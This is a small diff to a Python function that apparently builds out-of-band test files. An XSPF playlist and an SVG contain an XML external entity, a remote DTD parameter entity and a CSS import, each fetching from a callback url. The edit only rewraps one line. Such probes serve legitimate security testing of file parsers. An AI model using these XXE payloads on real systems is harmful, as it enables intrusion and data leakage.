@@ -77,7 +77,8 @@ def asking(port: int) -> dict[str, str]:
         "xspf": f'<?xml version="1.0"?><playlist version="1" xmlns="http://xspf.org/ns/0/"><trackList><track><location>{url}.mp4'
         "</location></track></trackList></playlist>",
         "entity.svg": f'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "{url}.xml"><!ENTITY % p SYSTEM "{url}.dtd"> %p;]>'
-        f'<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><style>@import url({url}.css);</style><text>&x;</text></svg>',
+        f'<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><style>@import url({url}.css);</style>'
+        "<text>&x;</text></svg>",
     }
 
 
